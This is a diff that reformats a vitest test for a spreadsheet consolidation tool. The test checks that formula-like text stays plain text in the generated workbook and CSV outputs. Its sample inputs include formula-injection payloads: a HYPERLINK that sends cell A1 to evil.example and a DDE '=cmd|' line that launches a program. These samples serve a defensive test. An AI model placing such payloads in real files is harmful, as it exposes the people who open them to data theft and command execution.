@@ -7,7 +7,18 @@ import { afterAll, beforeAll, expect, test } from 'vitest'
 import { consolidate } from './consolidated.ts'
 
 /** Texts that begin like formulas leave as text, however they came in and wherever they go (DESIGN §6, promise 7). */
-const texts = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', '=cmd|\' /C calc\'!A0', '+86-564-1234567', '-2+3+cmd', '@SUM(1+1)*cmd', '\t=1+1', '\r=1+1', '＝1+1', '"=1+1"', '=1+1","=2']
+const texts = [
+  '=HYPERLINK("http://evil.example/?"&A1,"点我")',
+  "=cmd|' /C calc'!A0",
+  '+86-564-1234567',
+  '-2+3+cmd',
+  '@SUM(1+1)*cmd',
+  '\t=1+1',
+  '\r=1+1',
+  '＝1+1',
+  '"=1+1"',
+  '=1+1","=2',
+]
 
 let made: Awaited<ReturnType<typeof consolidate>>
 const folder = mkdtempSync(join(tmpdir(), 'xiaotong-injection-'))
@@ -44,8 +55,15 @@ test('in the summary as CSV no field begins like a formula unless it is a number
 
 function cellsOf(bytes: Uint8Array): { formulas: string[]; strings: string[] } {
   const book = openSheetJs(bytes, { cellFormula: true })
-  const cells = Object.values(book.Sheets).flatMap((sheet) => Object.entries(sheet).filter(([address]) => !address.startsWith('!')).map(([, cell]) => cell as CellObject))
-  return { formulas: cells.flatMap((cell) => (cell.f === undefined ? [] : [cell.f])), strings: cells.flatMap((cell) => (cell.f === undefined && typeof cell.v === 'string' ? [oneLineEnd(cell.v)] : [])) }
+  const cells = Object.values(book.Sheets).flatMap((sheet) =>
+    Object.entries(sheet)
+      .filter(([address]) => !address.startsWith('!'))
+      .map(([, cell]) => cell as CellObject),
+  )
+  return {
+    formulas: cells.flatMap((cell) => (cell.f === undefined ? [] : [cell.f])),
+    strings: cells.flatMap((cell) => (cell.f === undefined && typeof cell.v === 'string' ? [oneLineEnd(cell.v)] : [])),
+  }
 }
 
 /** Programs write a carriage return in a cell as they please. */
